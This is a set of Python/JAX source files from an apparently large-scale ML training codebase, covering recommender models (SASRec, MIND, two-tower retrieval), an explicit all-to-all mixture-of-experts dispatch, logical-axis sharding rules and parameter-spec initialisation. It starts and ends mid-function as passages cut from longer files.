        xk = jax.nn.relu(xk)
        pooled.append(xk.sum(axis=-1))  # [B, H_{k+1}]
    cin_feat = jnp.concatenate(pooled, axis=-1)
    cin_logit = (cin_feat @ params["cin_out"])[:, 0]

    # --- deep MLP ---
    deep = plain_mlp(
        x0.reshape(b, f * d), params["mlp"]["w"], params["mlp"]["b"], act="relu"
    )[:, 0]

    # --- linear part ---
    lin = field_lookup(params["linear"], offsets, idx)[..., 0].sum(axis=-1)
    return cin_logit + deep + lin


# ----------------------------------------------------------------- SASRec ----


@dataclass(frozen=True)
class SASRecConfig:
    name: str = "sasrec"
    n_items: int = 1_000_000
    embed_dim: int = 50
    n_blocks: int = 2
    n_heads: int = 1
    seq_len: int = 50
    dropout: float = 0.0


def sasrec_param_specs(cfg: SASRecConfig):
    D = cfg.embed_dim
    blk = {
        "wq": P((cfg.n_blocks, D, cfg.n_heads, D // cfg.n_heads), ("layers", None, "heads", None)),
        "wk": P((cfg.n_blocks, D, cfg.n_heads, D // cfg.n_heads), ("layers", None, "heads", None)),
        "wv": P((cfg.n_blocks, D, cfg.n_heads, D // cfg.n_heads), ("layers", None, "heads", None)),
        "wo": P((cfg.n_blocks, cfg.n_heads, D // cfg.n_heads, D), ("layers", "heads", None, None)),
        "norm1": P((cfg.n_blocks, D), ("layers", None), init="zeros"),
        "norm2": P((cfg.n_blocks, D), ("layers", None), init="zeros"),
        "ff_w1": P((cfg.n_blocks, D, 4 * D), ("layers", None, "tower_mlp")),
        "ff_w2": P((cfg.n_blocks, 4 * D, D), ("layers", "tower_mlp", None)),
    }
    return {
        "item_embed": embedding_table_spec(cfg.n_items, D),
        "pos_embed": P((cfg.seq_len, D), (None, None), init="embed", scale=0.02),
        "blocks": blk,
        "final_norm": P((D,), (None,), init="zeros"),
    }


def sasrec_forward(params, batch, cfg: SASRecConfig, rules: ShardingRules | None = None):
    """batch = {"history": int32 [B, S]} → sequence repr [B, D] (last pos)."""
    rules = rules or ShardingRules()
    hist = batch["history"]
    b, s = hist.shape
    x = jnp.take(params["item_embed"], hist, axis=0) * (cfg.embed_dim**0.5)
    x = x + params["pos_embed"][None, :s]
    x = logical_constraint(x, rules, "batch", "seq", None)

    def body(x, blk):
        h = rms_norm(x, blk["norm1"])
        q = jnp.einsum("bsd,dhk->bshk", h, blk["wq"])
        k = jnp.einsum("bsd,dhk->bshk", h, blk["wk"])
        v = jnp.einsum("bsd,dhk->bshk", h, blk["wv"])
        a = dense_attention(q, k, v)
        x = x + jnp.einsum("bshk,hkd->bsd", a, blk["wo"])
        h = rms_norm(x, blk["norm2"])
        x = x + jnp.einsum(
            "bsf,fd->bsd", jax.nn.relu(jnp.einsum("bsd,df->bsf", h, blk["ff_w1"])), blk["ff_w2"]
        )
        return x, None

    x, _ = jax.lax.scan(body, x, params["blocks"])
    x = rms_norm(x, params["final_norm"])
    return x[:, -1]  # next-item representation


def sasrec_scores(params, batch, cfg: SASRecConfig, rules: ShardingRules | None = None):
    """Score history against positive/negative items: BPR-style logits."""
    u = sasrec_forward(params, batch, cfg, rules)  # [B, D]
    pos = jnp.take(params["item_embed"], batch["positive"], axis=0)
    neg = jnp.take(params["item_embed"], batch["negative"], axis=0)
    return (u * pos).sum(-1), (u * neg).sum(-1)


# ------------------------------------------------------------------- MIND ----


@dataclass(frozen=True)
class MINDConfig:
    name: str = "mind"
    n_items: int = 1_000_000
    embed_dim: int = 64
    n_interests: int = 4
    capsule_iters: int = 3
    seq_len: int = 50
    label_dim: int = 64


def mind_param_specs(cfg: MINDConfig):
    D, K = cfg.embed_dim, cfg.n_interests
    return {
        "item_embed": embedding_table_spec(cfg.n_items, D),
        "bilinear": P((D, D), (None, None)),  # S in B2I dynamic routing
        "mlp_w1": P((D, 4 * D), (None, "tower_mlp")),
        "mlp_w2": P((4 * D, D), ("tower_mlp", None)),
    }


def mind_forward(params, batch, cfg: MINDConfig, rules: ShardingRules | None = None):
    """Multi-interest extraction: behaviors [B, S] → interests [B, K, D].

    Behavior-to-Interest (B2I) dynamic routing, ``capsule_iters`` iterations.
    Routing logits are NOT backpropagated through (stop_gradient), per paper.
    """
    rules = rules or ShardingRules()
    hist = batch["history"]
    b, s = hist.shape
    K = cfg.n_interests
    e = jnp.take(params["item_embed"], hist, axis=0)  # [B, S, D]
    e = logical_constraint(e, rules, "batch", "seq", None)
    u = jnp.einsum("bsd,de->bse", e, params["bilinear"])  # routed votes

    # routing logits b_ij: fixed random init (paper: N(0,1), shared caps)
    key_b = jax.random.key(17)
    logits0 = jax.random.normal(key_b, (b, K, s), jnp.float32) * 1.0

    def routing_iter(logits, _):
        w = jax.nn.softmax(logits, axis=1)  # over interests
        cand = jnp.einsum("bks,bsd->bkd", w, jax.lax.stop_gradient(u))
        # squash
        n2 = jnp.sum(jnp.square(cand), -1, keepdims=True)
        cand = cand * (n2 / (1 + n2)) / jnp.sqrt(n2 + 1e-9)
        delta = jnp.einsum("bkd,bsd->bks", cand, jax.lax.stop_gradient(u))
        return logits + delta, None

    logits, _ = jax.lax.scan(routing_iter, logits0, None, length=cfg.capsule_iters - 1)
    w = jax.nn.softmax(logits, axis=1)
    caps = jnp.einsum("bks,bsd->bkd", w, u)  # final pass WITH gradient
    n2 = jnp.sum(jnp.square(caps), -1, keepdims=True)
    caps = caps * (n2 / (1 + n2)) / jnp.sqrt(n2 + 1e-9)
    # per-interest MLP (H-layer)
    h = jax.nn.relu(jnp.einsum("bkd,df->bkf", caps, params["mlp_w1"]))
    interests = jnp.einsum("bkf,fd->bkd", h, params["mlp_w2"])
    return interests


def mind_label_aware_scores(params, batch, cfg: MINDConfig, rules=None, *, pow_p: float = 2.0):
    """Label-aware attention over interests → training logit per target."""
    interests = mind_forward(params, batch, cfg, rules)  # [B, K, D]
    target = jnp.take(params["item_embed"], batch["target"], axis=0)  # [B, D]
    att = jnp.einsum("bkd,bd->bk", interests, target)
    att = jax.nn.softmax(pow_p * att, axis=-1)
    user = jnp.einsum("bk,bkd->bd", att, interests)
    return (user * target).sum(-1)


# -------------------------------------------------------------- Two-tower ----


@dataclass(frozen=True)
class TwoTowerConfig:
    name: str = "two-tower-retrieval"
    n_users: int = 10_000_000
    n_items: int = 10_000_000
    embed_dim: int = 256
    tower_mlp: tuple[int, ...] = (1024, 512, 256)
    history_len: int = 32
    n_candidates: int = 1_000_000


def twotower_param_specs(cfg: TwoTowerConfig):
    D = cfg.embed_dim

    def tower(prefix: str):
        w, bdim = [], []
        dims = [D, *cfg.tower_mlp]
        for i in range(len(dims) - 1):
            w.append(P((dims[i], dims[i + 1]), (None, "tower_mlp")))
            bdim.append(P((dims[i + 1],), (None,), init="zeros"))
        return {"w": w, "b": bdim}

    return {
        "user_embed": embedding_table_spec(cfg.n_users, D),
        "item_embed": embedding_table_spec(cfg.n_items, D),
        "user_tower": tower("u"),
        "item_tower": tower("i"),
    }


def twotower_user(params, batch, cfg: TwoTowerConfig, rules: ShardingRules | None = None):
    """user id + history bag → normalized user vector [B, D']."""
    rules = rules or ShardingRules()
    uid_vec = jnp.take(params["user_embed"], batch["user_id"], axis=0)
    hist_vec = embedding_bag_fixed(
        params["item_embed"], batch["history"], mode="mean", valid=batch["history"] >= 0
    )
    x = uid_vec + hist_vec
    x = logical_constraint(x, rules, "batch", None)
    t = params["user_tower"]
    x = plain_mlp(x, t["w"], t["b"], act="relu")
    return x / jnp.maximum(jnp.linalg.norm(x, axis=-1, keepdims=True), 1e-6)


def twotower_item(params, item_ids, cfg: TwoTowerConfig, rules: ShardingRules | None = None, *, constrain: str = "batch"):
    x = jnp.take(params["item_embed"], item_ids, axis=0)
    if rules is not None:
        # pin the gather OUTPUT sharding: without it GSPMD all-reduces the
        # full gathered matrix from the row-sharded table (1 GB/dev for the
        # 10⁶-candidate cell — §Perf hillclimb 3)
        x = logical_constraint(x, rules, constrain, None)
    t = params["item_tower"]
    x = plain_mlp(x, t["w"], t["b"], act="relu")
    return x / jnp.maximum(jnp.linalg.norm(x, axis=-1, keepdims=True), 1e-6)


def twotower_inbatch_loss(
    params, batch, cfg: TwoTowerConfig, rules=None, *, temp: float = 0.05, max_negatives: int = 8192
):
    """Sampled-softmax with (capped) in-batch negatives (YouTube-style).

    Full B×B logits at B=65536 would be 17 GB fp32 — the first
    ``max_negatives`` in-batch items serve as the shared negative pool, which
    is the standard production compromise.
    """
    u = twotower_user(params, batch, cfg, rules)  # [B, D']
    i = twotower_item(params, batch["item_id"], cfg, rules)  # [B, D']
    b = u.shape[0]
    n_neg = min(b, max_negatives)
    gold = (u * i).sum(-1) / temp  # [B]
    neg_logits = (u @ i[:n_neg].T) / temp  # [B, n_neg]
    # mask accidental hits (the query's own positive inside the pool)
    same = batch["item_id"][:, None] == batch["item_id"][None, :n_neg]
    neg_logits = jnp.where(same, -1e30, neg_logits)
    logz = jax.nn.logsumexp(jnp.concatenate([gold[:, None], neg_logits], axis=-1), axis=-1)
    return (logz - gold).mean()


# --- training losses (used by the train_batch cells) -------------------------


def xdeepfm_loss(params, batch, cfg: XDeepFMConfig, rules=None):
    """Binary cross-entropy on click labels."""
    logits = xdeepfm_forward(params, batch, cfg, rules)
    y = batch["labels"].astype(jnp.float32)
    loss = jnp.mean(jax.nn.softplus(logits) - y * logits)
    return loss, {"bce": loss}


def sasrec_loss(params, batch, cfg: SASRecConfig, rules=None):
    """BPR-style pairwise loss over (positive, sampled negative)."""
    sp, sn = sasrec_scores(params, batch, cfg, rules)
    loss = jnp.mean(jax.nn.softplus(-(sp - sn)))
    return loss, {"bpr": loss}


def mind_loss(params, batch, cfg: MINDConfig, rules=None):
    """BCE on label-aware interest scores vs sampled negatives."""
    pos = mind_label_aware_scores(params, batch, cfg, rules)
    neg_batch = dict(batch)
    neg_batch["target"] = batch["negative"]
    neg = mind_label_aware_scores(params, neg_batch, cfg, rules)
    loss = jnp.mean(jax.nn.softplus(-pos) + jax.nn.softplus(neg))
    return loss, {"bce": loss}


def twotower_loss(params, batch, cfg: TwoTowerConfig, rules=None):
    loss = twotower_inbatch_loss(params, batch, cfg, rules)
    return loss, {"softmax": loss}


def sasrec_retrieve_scores(params, batch, cfg: SASRecConfig, rules=None, *, top_k: int = 100):
    """retrieval_cand: sequence repr · candidate item embeddings + top-k."""
    u = sasrec_forward(params, batch, cfg, rules)  # [Q, D]
    cand = jnp.take(params["item_embed"], batch["candidates"], axis=0)  # [C, D]
    scores = jnp.einsum("qd,cd->qc", u, cand)
    vals, idx = jax.lax.top_k(scores, top_k)
    return vals, jnp.take(batch["candidates"], idx)


def mind_retrieve_scores(params, batch, cfg: MINDConfig, rules=None, *, top_k: int = 100):
    """retrieval_cand: max over interests of interest · candidate embedding."""
    interests = mind_forward(params, batch, cfg, rules)  # [Q, K, D]
    cand = jnp.take(params["item_embed"], batch["candidates"], axis=0)  # [C, D]
    scores = jnp.einsum("qkd,cd->qkc", interests, cand).max(axis=1)  # [Q, C]
    vals, idx = jax.lax.top_k(scores, top_k)
    return vals, jnp.take(batch["candidates"], idx)


def twotower_retrieve_precomputed(params, batch, cfg: TwoTowerConfig, rules=None, *, top_k: int = 100):
    """Production retrieval: score against a PRECOMPUTED candidate matrix.

    Real retrieval systems run the item tower offline and serve from the
    resulting [C, D'] matrix (an ANN index) — query-time work is one
    query-tower pass + a candidate-sharded dot + top-k.  This removes the
    per-query gather through the 10M-row embedding table entirely (the
    gather's GSPMD lowering all-reduces the full 1 GB candidate matrix —
    §Perf hillclimb 3).  The Bass ``candidate_score`` kernel implements the
    same contraction on the tensor engine.
    """
    rules = rules or ShardingRules()
    u = twotower_user(params, batch, cfg, rules)  # [Q, D']
    cand = batch["cand_vectors"]  # [C, D'] row-sharded, precomputed offline
    cand = logical_constraint(cand, rules, "candidates", None)
    scores = jnp.einsum("qd,cd->qc", u, cand)
    vals, idx = jax.lax.top_k(scores, top_k)
    return vals, idx


def twotower_retrieve(params, batch, cfg: TwoTowerConfig, rules=None, *, top_k: int = 100):
    """retrieval_cand cell: 1 query (or few) × n_candidates batched dot + top-k.

    Candidate item vectors are scored with ONE [Q, D']×[C, D'] matmul over the
    candidate-sharded table slice — not a loop.  The Bass `candidate_score`
    kernel implements the same contraction for the Trainium roofline.
    """
    rules = rules or ShardingRules()
    u = twotower_user(params, batch, cfg, rules)  # [Q, D']
    cand = twotower_item(params, batch["candidates"], cfg, rules, constrain="candidates")  # [C, D']
    cand = logical_constraint(cand, rules, "candidates", None)
    scores = jnp.einsum("qd,cd->qc", u, cand)
    vals, idx = jax.lax.top_k(scores, top_k)
    return vals, jnp.take(batch["candidates"], idx)
