"""Explicit all-to-all MoE dispatch (shard_map) — the beyond-GSPMD lowering.

GSPMD lowers the token↔expert scatter/gather on sharded operands through
masked full-tensor updates: measured on arctic-480b train_4k, every layer
moved ~2 GB/device of all-reduce/all-gather plus u32 compare matrices of the
full [T·k, m] shape (EXPERIMENTS.md §Perf hillclimb 1).  This module routes
tokens manually instead:

  1. tokens stay sharded on the expert axis (= the mesh axis the ``experts``
     rule names, e.g. ``data`` for arctic);
  2. each shard scatters its tokens LOCALLY into a [E, C_se, m] send buffer
     (C_se = per-(source, expert) capacity — GShard's grouped-dispatch
     semantics);
  3. ONE ``all_to_all`` moves expert-grouped tokens to their owners
     (the minimal exchange: every token crosses the wire exactly once);
  4. expert FFNs run on local experts, the inner d_ff dim still auto-sharded
     over the remaining mesh axes (shard_map ``axis_names`` = expert axis
     only — manual/auto mixing);
  5. a second ``all_to_all`` returns outputs; combine is a local gather.

All scatters/gathers are shard-local, so XLA emits plain (cheap) scatters.
"""

from __future__ import annotations

import math

import jax
import jax.numpy as jnp
from jax.sharding import PartitionSpec as P

from .moe import MoeDims, router_topk


from functools import partial


@partial(jax.custom_vjp, nondiff_argnums=(1, 2))
def _manual_a2a(x, ax: str, n: int):
    """all_to_all via n ppermute rounds (x: [n, ...], chunk i → peer i).

    Functionally identical to ``jax.lax.all_to_all`` and moves the same
    bytes, but lowers to collective-permute only — XLA CPU's
    AllReducePromotion pass check-fails on the all-to-all lowering
    (all-reduce with a `copy` reducer), so the dry-run needs this form.
    On real trn hardware either lowering maps onto NeuronLink p2p.

    custom_vjp because payloads ride as u16 bitcasts (non-differentiable):
    all-to-all is a permutation, so its transpose is itself.
    """
    return _manual_a2a_impl(x, ax, n)


def _manual_a2a_fwd(x, ax, n):
    return _manual_a2a_impl(x, ax, n), None


def _manual_a2a_bwd(ax, n, _res, g):
    return (_manual_a2a_impl(g, ax, n),)


_manual_a2a.defvjp(_manual_a2a_fwd, _manual_a2a_bwd)


@partial(jax.custom_vjp, nondiff_argnums=(1, 2))
def _manual_a2a_inv(x, ax: str, n: int):
    """Inverse exchange: chunk s (shift-ordered input) returns to source
    (idx - s) % n; output arrives shift-ordered at the original sender."""
    return _manual_a2a_inv_impl(x, ax, n)


def _manual_a2a_inv_fwd(x, ax, n):
    return _manual_a2a_inv_impl(x, ax, n), None


def _manual_a2a_inv_bwd(ax, n, _res, g):
    return (_manual_a2a_impl_for_inv_bwd(g, ax, n),)


def _manual_a2a_inv_impl(x, ax: str, n: int):
    with jax.named_scope("fused_a2a"):
        return _a2a_rounds_inv(x, ax, n)


def _a2a_rounds_inv(x, ax: str, n: int):
    dt = x.dtype
    bf16 = dt == jnp.bfloat16
    if bf16:
        x = jax.lax.bitcast_convert_type(x, jnp.uint16)
    received = []
    for s in range(n):
        chunk = x[s]  # STATIC slice: chunk s targets source (idx - s) % n
        perm = [(i, (i - s) % n) for i in range(n)]
        received.append(chunk if s == 0 else jax.lax.ppermute(chunk, ax, perm))
    out = jnp.stack(received)  # [s] = outputs for tokens sent to (idx + s)
    if bf16:
        out = jax.lax.bitcast_convert_type(out, jnp.bfloat16)
    return out


def _manual_a2a_impl_for_inv_bwd(g, ax: str, n: int):
    """Transpose of the inverse exchange = the forward dispatch exchange
    restricted to shift-ordered layout: send g[s] to (idx + s) % n."""
    with jax.named_scope("fused_a2a"):
        return _a2a_rounds_inv_bwd(g, ax, n)


def _a2a_rounds_inv_bwd(g, ax: str, n: int):
    dt = g.dtype
    bf16 = dt == jnp.bfloat16
    if bf16:
        g = jax.lax.bitcast_convert_type(g, jnp.uint16)
    received = []
    for s in range(n):
        chunk = g[s]
        perm = [(i, (i + s) % n) for i in range(n)]
        received.append(chunk if s == 0 else jax.lax.ppermute(chunk, ax, perm))
    out = jnp.stack(received)
    if bf16:
        out = jax.lax.bitcast_convert_type(out, jnp.bfloat16)
    return out


_manual_a2a_inv.defvjp(_manual_a2a_inv_fwd, _manual_a2a_inv_bwd)


def _manual_a2a_impl(x, ax: str, n: int):
    # fused_a2a: on TRN the exchange is DMA-driven p2p — the chunk slicing /
    # stacking here is SBUF staging, not HBM round-trips; only the buffer
    # read and the received-stack write are charged (boundary reads).
    with jax.named_scope("fused_a2a"):
        return _a2a_rounds_fwd(x, ax, n)


def _a2a_rounds_fwd(x, ax: str, n: int):
    idx = jax.lax.axis_index(ax)
    # bf16 payloads ride the wire as u16 bits: XLA CPU's AllReducePromotion
    # check-fails on bf16 collectives from shard_map (integer dtypes are
    # untouched, and the bitcast is free on real hardware too)
    dt = x.dtype
    bf16 = dt == jnp.bfloat16
    if bf16:
        x = jax.lax.bitcast_convert_type(x, jnp.uint16)
    received = []
    for s in range(n):
        # dynamic_slice (pointer arithmetic), NOT take/select_n — the latter
        # reads ALL n chunks per round (O(n²) traffic, measured 15.8 TiB/dev)
        chunk = jax.lax.dynamic_index_in_dim(x, (idx + s) % n, axis=0, keepdims=False)
        perm = [(i, (i + s) % n) for i in range(n)]
        received.append(chunk if s == 0 else jax.lax.ppermute(chunk, ax, perm))
    # OUT OF ORDER: entry s came from source (idx - s) % n.  Callers absorb
    # the shift in their index math instead of paying a reorder scatter.
    out = jnp.stack(received)
    if bf16:
        out = jax.lax.bitcast_convert_type(out, jnp.bfloat16)
    return out


def _local_dispatch(x, expert_idx, combine_w, n_experts: int, cap: int):
    """Scatter local tokens into [E, cap, m]; returns buffer + gather coords."""
    t, m = x.shape
    k = expert_idx.shape[1]
    flat_expert = expert_idx.reshape(-1)  # [t*k]
    onehot = jax.nn.one_hot(flat_expert, n_experts, dtype=jnp.int32)
    pos = (jnp.cumsum(onehot, axis=0) - 1).max(axis=-1, where=onehot > 0, initial=0)
    keep = pos < cap
    token_of_slot = jnp.repeat(jnp.arange(t), k)
    buf = jnp.zeros((n_experts, cap, m), x.dtype)
    src = jnp.where(keep[:, None], x[token_of_slot], 0)
    buf = buf.at[flat_expert, jnp.minimum(pos, cap - 1)].set(src, mode="drop")
    return buf, (flat_expert, jnp.minimum(pos, cap - 1), keep, token_of_slot)


def moe_ffn_a2a(x, params, dims: MoeDims, rules, *, expert_axis: str | None = None):
    """x: [T, M] globally sharded on the expert axis → [T, M].

    Requires ``rules.mesh`` and an ``experts`` rule whose FIRST axis is the
    exchange axis.  Falls back to the caller if either is missing.
    """
    mesh = rules.mesh
    ax = expert_axis or (rules.rules.get("experts") or ("pipe",))[0]
    n_shards = dict(mesh.shape)[ax]
    e = dims.n_experts
    assert e % n_shards == 0, (e, n_shards)
    e_loc = e // n_shards
    t, m = x.shape
    t_loc = t // n_shards
    # per-(source, expert) capacity — GShard grouped dispatch
    cap = max(8, int(math.ceil(dims.top_k * t_loc / e * dims.capacity_factor)))

    def local(x_loc, router_w, w_gate, w_up, w_down):
        # x_loc: [t_loc, m]; weights already expert-local on dim 0
        expert_idx, combine_w, aux = router_topk(x_loc, router_w, dims)
        buf, (fe, pos, keep, tos) = _local_dispatch(x_loc, expert_idx, combine_w, e, cap)
        # [E, cap, m] → [shards, e_loc, cap, m]; a2a rounds arrive ordered
        # by SHIFT s (source (idx-s) % n) — expert compute is order-agnostic
        send = buf.reshape(n_shards, e_loc, cap, m)
        recv = _manual_a2a(send, ax, n_shards)
        # tokens for MY experts from every source: [e_loc, shards*cap, m]
        expert_in = recv.transpose(1, 0, 2, 3).reshape(e_loc, n_shards * cap, m)
        g = jnp.einsum("ecm,emf->ecf", expert_in, w_gate)
        u = jnp.einsum("ecm,emf->ecf", expert_in, w_up)
        expert_out = jnp.einsum("ecf,efm->ecm", jax.nn.silu(g) * u, w_down)
        # return trip: chunk s goes back to source (idx - s) % n — the exact
        # inverse permutation, so outputs arrive ordered by shift again
        back = expert_out.reshape(e_loc, n_shards, cap, m).transpose(1, 0, 2, 3)
        ret = _manual_a2a_inv(back, ax, n_shards)
        # ret[s] holds outputs for the tokens WE sent to peer (idx + s):
        # token slot (fe, pos) lives at shift s(fe) = (fe//e_loc - idx) % n
        idx_dev = jax.lax.axis_index(ax)
        shift = (fe // e_loc - idx_dev) % n_shards
        out_buf = ret.reshape(n_shards, e_loc, cap, m)
        gathered = out_buf[shift, fe % e_loc, pos]
        gathered = jnp.where(keep[:, None], gathered, 0)
        w = combine_w.reshape(-1)[:, None].astype(gathered.dtype)
        y = jax.ops.segment_sum(gathered * w, tos, t_loc)
        return y.astype(x_loc.dtype), jax.lax.pmean(aux, ax)

    moe = params
    fn = jax.shard_map(
        local,
        mesh=mesh,
        in_specs=(P(ax), P(), P(ax), P(ax), P(ax)),
        out_specs=(P(ax), P()),
        check_vma=False,
        axis_names={ax},
    )
    # router enters replicated → its cotangent psums over `ax`; f32 keeps that
    # all-reduce out of XLA CPU's (crashing) bf16 AllReducePromotion pass and
    # is the right router-precision choice regardless.
    y, aux = fn(x, moe["router"].astype(jnp.float32), moe["w_gate"], moe["w_up"], moe["w_down"])
    return y, aux


def a2a_applicable(x, dims: MoeDims, rules) -> bool:
    """a2a dispatch needs a mesh, an expert axis, and divisible shapes."""
    if rules is None or getattr(rules, "mesh", None) is None:
        return False
    ax = (rules.rules.get("experts") or ("pipe",))[0]
    sizes = dict(rules.mesh.shape)
    if ax not in sizes:
        return False
    n = sizes[ax]
    return n > 1 and x.shape[0] % n == 0 and dims.n_experts % n == 0
