"""Logical-axis sharding: name tensor dims, map names to mesh axes per arch.

Every parameter / activation dimension carries a *logical* name ("embed",
"mlp", "heads", "experts", "batch", "seq", ...).  Each architecture config
ships a rule table mapping logical names to mesh axes (or None).  This is the
single knob the perf hillclimbs turn: changing a rule re-shards the whole
model without touching model code.

Mesh axes (launch/mesh.py): ``data`` (DP + ZeRO/FSDP), ``tensor`` (TP),
``pipe`` (2nd model-parallel dim / EP / SP), and optionally ``pod`` (DP across
pods).
"""

from __future__ import annotations

from dataclasses import dataclass, field

import jax
from jax.sharding import Mesh, NamedSharding, PartitionSpec as P

# The default rule table — per-arch configs override entries.
DEFAULT_RULES: dict[str, tuple[str, ...] | None] = {
    # parameters
    "vocab": ("tensor", "pipe"),  # embedding / lm-head vocab dim
    "embed": None,  # d_model dim of weights (replicated)
    "fsdp_embed": ("data",),  # d_model dim when FSDP is on (arctic)
    "heads": ("tensor",),  # attention head dim of qkvo weights
    "kv_heads": ("tensor",),
    "mlp": ("tensor", "pipe"),  # d_ff dim
    "experts": ("pipe",),  # expert dim of MoE weight stacks
    "expert_mlp": ("tensor",),  # d_ff dim inside an expert
    "layers": None,  # scanned layer stack dim
    # recsys / gnn / generic
    "table_rows": ("data", "tensor", "pipe"),  # big embedding tables (row sharded)
    "table_dim": None,
    "tower_mlp": ("tensor",),
    "candidates": ("data", "tensor", "pipe"),  # retrieval candidate dim
    "nodes": ("data", "tensor", "pipe"),  # full-graph node dim
    "edges": ("data", "tensor", "pipe"),  # full-graph edge dim
    "gnn_hidden": None,
    # activations
    "batch": ("data",),
    "seq": None,  # sequence dim of activations (SP shards this)
    "act_heads": ("tensor",),
    "act_mlp": ("tensor", "pipe"),
    "kv_seq": ("pipe",),  # KV-cache sequence dim (decode SP)
}


@dataclass
class ShardingRules:
    """A resolved rule table; unknown names shard to None (replicated)."""

    rules: dict[str, tuple[str, ...] | None] = field(default_factory=dict)
    # when the mesh has a 'pod' axis, 'batch'/'table_rows'/... rules naming
    # 'data' are automatically widened to ('pod', 'data')
    widen_data_to_pod: bool = True
    # concrete mesh for in-jit activation constraints (set by launch/cells.py;
    # jax.sharding.get_abstract_mesh() is only populated under use_mesh, NOT
    # under the legacy `with mesh:` context — carrying the mesh here makes
    # logical_constraint work under both)
    mesh: object | None = None

    def __post_init__(self) -> None:
        merged = dict(DEFAULT_RULES)
        merged.update(self.rules)
        self.rules = merged

    def spec(self, *names: str | None, mesh: Mesh | None = None) -> P:
        """PartitionSpec for a tensor whose dims have these logical names."""
        axes_in_mesh = set(mesh.axis_names) if mesh is not None else None
        out: list = []
        used: set[str] = set()
        for name in names:
            if name is None:
                out.append(None)
                continue
            ax = self.rules.get(name)
            if ax is None:
                out.append(None)
                continue
            ax = tuple(ax)
            if (
                self.widen_data_to_pod
                and axes_in_mesh is not None
                and "pod" in axes_in_mesh
                and "data" in ax
                and name in ("batch", "table_rows", "candidates", "nodes", "edges")
            ):
                ax = ("pod",) + ax
            # drop axes not present in the mesh or already used by an earlier dim
            ax = tuple(a for a in ax if (axes_in_mesh is None or a in axes_in_mesh) and a not in used)
            used.update(ax)
            out.append(ax if len(ax) > 1 else (ax[0] if ax else None))
        return P(*out)

    def sharding(self, mesh: Mesh, *names: str | None) -> NamedSharding:
        return NamedSharding(mesh, self.spec(*names, mesh=mesh))

    def sharding_for_shape(self, mesh: Mesh, shape, *names: str | None) -> NamedSharding:
        """Size-aware sharding: drops mesh axes a dim cannot divide.

        E.g. sasrec's single attention head cannot shard over tensor=4 — the
        'heads' rule axis is dropped for that tensor instead of erroring.
        """
        return NamedSharding(mesh, filter_spec_by_shape(self.spec(*names, mesh=mesh), shape, mesh))

    def override(self, **kw: tuple[str, ...] | None) -> "ShardingRules":
        r = dict(self.rules)
        r.update(kw)
        return ShardingRules(
            rules=r, widen_data_to_pod=self.widen_data_to_pod, mesh=self.mesh
        )

    def with_mesh(self, mesh) -> "ShardingRules":
        return ShardingRules(
            rules=dict(self.rules), widen_data_to_pod=self.widen_data_to_pod, mesh=mesh
        )


def filter_spec_by_shape(pspec: P, shape, mesh: Mesh) -> P:
    """Keep only the prefix of each dim's axes that divides the dim size."""
    axis_sizes = dict(mesh.shape)
    out: list = []
    for i, dim in enumerate(shape):
        entry = pspec[i] if i < len(pspec) else None
        if entry is None:
            out.append(None)
            continue
        axes = entry if isinstance(entry, tuple) else (entry,)
        kept: list[str] = []
        prod = 1
        for a in axes:
            if dim % (prod * axis_sizes[a]) == 0:
                kept.append(a)
                prod *= axis_sizes[a]
            else:
                break
        out.append(tuple(kept) if len(kept) > 1 else (kept[0] if kept else None))
    return P(*out)


def logical_constraint(x, rules: ShardingRules, *names: str | None):
    """with_sharding_constraint by logical dim names (no-op outside jit/mesh)."""
    mesh = rules.mesh if rules.mesh is not None else get_abstract_mesh_or_none()
    if mesh is None:
        return x
    spec = filter_spec_by_shape(rules.spec(*names, mesh=mesh), x.shape, mesh)
    return jax.lax.with_sharding_constraint(x, NamedSharding(mesh, spec))


def get_abstract_mesh_or_none():
    fn = getattr(jax.sharding, "get_abstract_mesh", None)
    if fn is None:  # older jax: no abstract-mesh context, rely on rules.mesh
        return None
    m = fn()
    if m is None or m.empty:
        return None
    return m


def tree_shardings(rules: ShardingRules, names_tree, mesh: Mesh):
    """Map a pytree of logical-name tuples to a pytree of NamedShardings."""
    return jax.tree.map(
        lambda names: rules.sharding(mesh, *names),
        names_tree,
        is_leaf=lambda x: isinstance(x, tuple) and all(isinstance(n, (str, type(None))) for n in x),
    )
