"""Parameter specs: one declaration → init / abstract shapes / shardings.

A model declares its parameters as a pytree of :class:`ParamSpec` (shape +
logical dim names + initializer).  From that single tree we derive:

* ``init_params``      — concrete arrays (smoke tests, real training),
* ``abstract_params``  — ``jax.ShapeDtypeStruct`` tree (dry-run: no allocation),
* ``param_shardings``  — ``NamedSharding`` tree from the arch's rule table,
* ``param_specs_tree`` — logical-name tuples (checkpoint manifest metadata).
"""

from __future__ import annotations

import dataclasses
import math
from typing import Any

import jax
import jax.numpy as jnp
import numpy as np

from .sharding import ShardingRules


@jax.tree_util.register_static
@dataclasses.dataclass(frozen=True)
class ParamSpec:
    shape: tuple[int, ...]
    names: tuple[str | None, ...]  # logical dim names, len == len(shape)
    init: str = "normal"  # normal | zeros | ones | embed | uniform
    scale: float | None = None  # override stddev / bound
    dtype: Any = None  # override the model dtype

    def __post_init__(self) -> None:
        assert len(self.shape) == len(self.names), (self.shape, self.names)


def _is_spec(x) -> bool:
    return isinstance(x, ParamSpec)


def _fan_in(spec: ParamSpec) -> int:
    # last-but-one dim is the contraction dim by our convention (in, out)
    if len(spec.shape) == 1:
        return spec.shape[0]
    return int(np.prod(spec.shape[:-1]))


def init_one(key, spec: ParamSpec, dtype) -> jax.Array:
    dt = spec.dtype or dtype
    if spec.init == "zeros":
        return jnp.zeros(spec.shape, dt)
    if spec.init == "ones":
        return jnp.ones(spec.shape, dt)
    if spec.init == "embed":
        s = spec.scale if spec.scale is not None else 1.0
        return (jax.random.normal(key, spec.shape, jnp.float32) * s).astype(dt)
    if spec.init == "uniform":
        b = spec.scale if spec.scale is not None else 0.05
        return jax.random.uniform(key, spec.shape, jnp.float32, -b, b).astype(dt)
    # truncated-normal fan-in scaling (the default for matmul weights)
    s = spec.scale if spec.scale is not None else 1.0 / math.sqrt(max(1, _fan_in(spec)))
    return (jax.random.truncated_normal(key, -2.0, 2.0, spec.shape, jnp.float32) * s).astype(dt)


def init_params(key, specs, dtype=jnp.float32):
    leaves, treedef = jax.tree.flatten(specs, is_leaf=_is_spec)
    keys = jax.random.split(key, len(leaves))
    return jax.tree.unflatten(
        treedef, [init_one(k, s, dtype) for k, s in zip(keys, leaves)]
    )


def abstract_params(specs, dtype=jnp.float32):
    return jax.tree.map(
        lambda s: jax.ShapeDtypeStruct(s.shape, s.dtype or dtype),
        specs,
